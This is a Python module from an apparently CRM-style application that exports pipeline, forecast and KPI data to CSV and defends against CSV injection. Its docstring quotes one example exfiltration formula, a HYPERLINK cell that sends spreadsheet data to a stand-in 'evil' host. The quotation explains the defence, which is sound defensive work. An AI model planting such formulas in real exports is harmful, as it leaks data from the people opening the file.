"""CSV export of the pipeline, the forecast, the KPIs and the records behind a KPI.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some, tab or carriage
return) as a formula: a deal named `=HYPERLINK("http://evil/?"&A1,"x")` would run on the
manager's machine (DESIGN.md section 5, OWASP "CSV injection"). So every text cell whose first
non-space character is one of those (or their full-width forms) gets a leading apostrophe,
which spreadsheets show as text and hide. Numbers are written as numbers (a negative amount is
`-5`, never `'-5`): only values that are numbers in the database are, so a text field holding
"-5" is still neutralised. Control characters other than tab, LF and CR become U+FFFD, so
`cat export.csv` cannot drive a terminal. Files are UTF-8 (no BOM), RFC 4180 quoting and CRLF line
ends; rows are written as they are read, a page at a time, never all in memory.
"""

from __future__ import annotations

import csv
import os
import re
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from db.connection import database
from db.services import forecast as fc
from db.services import kpis as kp
from db.services.periods import Period

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
PAGE = 2000


def neutralise(value: object) -> str:
    """One cell: numbers as numbers, dates in ISO 8601, text made harmless."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal | float):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = _CONTROL.sub("\ufffd", str(value))
    stripped = text.lstrip(" ")
    if text.startswith(DANGEROUS) or stripped.startswith(DANGEROUS):
        return "'" + text
    return text


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write `header` and `rows` (neutralised) to `out`; returns the number of rows."""
    writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180; also quotes any CR or LF
    writer.writerow([neutralise(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
        n += 1
    return n


def write_file(path: str | os.PathLike[str], header: Sequence[str],
               rows: Iterable[Sequence[object]]) -> int:  # fmt: skip
    """Write the CSV next to `path` and move it into place: a failed export leaves no half
    file and an existing file is replaced only by a complete one."""
    target = Path(path).expanduser()
    fd, tmp = tempfile.mkstemp(prefix=".switchboard-export-", suffix=".csv",
                               dir=target.parent if str(target.parent) else ".")  # fmt: skip
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as out:
            n = write_csv(out, header, rows)
        os.chmod(tmp, 0o644 & ~_umask())
        os.replace(tmp, target)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return n


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# -- what can be exported ---------------------------------------------------------------------

PIPELINE_HEADER = ("id", "deal", "account", "stage", "amount", "currency", "probability",
                   "weighted", "expected_close", "forecast_category", "owner", "team")  # fmt: skip
_PIPELINE_SQL = (
    "SELECT o.id, o.name, ac.name, s.name, o.amount, o.currency, o.probability, "
    "round(o.amount * o.probability / 100, 2), o.expected_close, o.forecast_category, "
    "u.display_name, t.name FROM opportunity o "
    "JOIN account ac ON ac.id = o.account_id JOIN stage s ON s.id = o.stage_id "
    "LEFT JOIN app_user u ON u.id = o.owner_id LEFT JOIN team t ON t.id = o.team_id "
    "WHERE NOT o.is_closed AND o.deleted_at IS NULL AND o.id > %s ORDER BY o.id LIMIT %s"
)


def pipeline_rows(page: int = PAGE) -> Iterator[tuple]:
    """Every open deal the person may see, by id, a keyset page at a time."""
    after = 0
    while True:
        rows = database.execute_sql(_PIPELINE_SQL, (after, page)).fetchall()
        yield from rows
        if len(rows) < page:
            return
        after = rows[-1][0]


FORECAST_HEADER = ("period", "currency", "level", "depth", "name", "closed", "commit",
                   "best_case", "pipeline", "weighted", "open_deals", "won_deals",
                   "adjusted_commit", "adjusted_best_case", "adjusted_pipeline",
                   "adjusted_by", "adjusted_at", "adjustment_note")  # fmt: skip


def forecast_rows(f: fc.Forecast) -> Iterator[tuple]:
    for row in [*f.rows, f.total]:
        o = row.own
        latest = max(row.adjustments.values(), key=lambda a: a.at, default=None)
        yield (f.period.key, f.currency, row.kind, row.depth, row.name, o.closed, o.commit,
               o.best_case, o.pipeline, o.weighted, o.open_deals, o.won_deals,
               row.adjusted.get("commit"), row.adjusted.get("best_case"),
               row.adjusted.get("pipeline"), latest.by_name if latest else None,
               latest.at if latest else None, latest.note if latest else None)  # fmt: skip


KPI_HEADER = ("period", "currency", "kpi", "outcome", "label", "value", "shown", "detail")


def kpi_rows(v: kp.KpiView) -> Iterator[tuple]:
    for k in v.figures:
        yield (v.period.key, v.currency, k.key, k.outcome, k.label, k.value, k.text, k.detail)


def kpi_record_header(key: str) -> tuple[str, ...]:
    return kp.DEAL_COLUMNS if key in kp.DEAL_KPIS else kp.ACTIVITY_COLUMNS


def kpi_record_rows(key: str, period: Period, currency: str, outcome: str | None = None,
                    now: datetime | None = None) -> Iterator[tuple]:  # fmt: skip
    """Every record behind a KPI, a keyset page at a time."""
    after = None
    while True:
        page = kp.records(key, period, currency, outcome, after=after, limit=PAGE, now=now)
        for r in page.rows:
            yield tuple(getattr(r, c) for c in kpi_record_header(key))
        if page.next_after is None:
            return
        after = page.next_after


BOARD_HEADER = ("stage", "deal_id", "deal", "account", "amount", "currency", "probability",
                "expected_close", "owner", "days_idle", "rotting_after_days", "next_activity")


def board_rows(filters: Any, stages: Sequence[tuple[int, str]]) -> Iterator[tuple]:
    """The pipeline board as it is filtered (`db.services.pipeline.Filters`): every card of
    every column, stage by stage in board order, a keyset page at a time."""
    from db.services import pipeline

    today = database.execute_sql("SELECT current_date").fetchone()[0]
    for stage_id, stage_name in stages:
        after = None
        while True:
            cards = pipeline.cards(filters, stage_id, after, limit=PAGE)
            for c in cards:
                yield (stage_name, c.id, c.name, c.account, c.amount, c.currency, c.probability,
                       c.expected_close, c.owner, c.idle_days, c.rotting_days,
                       c.next_state(today))  # fmt: skip
            if len(cards) < PAGE:
                break
            after = (cards[-1].amount, cards[-1].id)


def default_name(what: str, period: Period | None = None, today: date | None = None) -> str:
    """switchboard-pipeline-2026-12-02.csv, switchboard-forecast-2026-Q4.csv ..."""
    tag = period.key if period is not None else f"{today or date.today():%Y-%m-%d}"
    return f"switchboard-{what}-{tag}.csv"
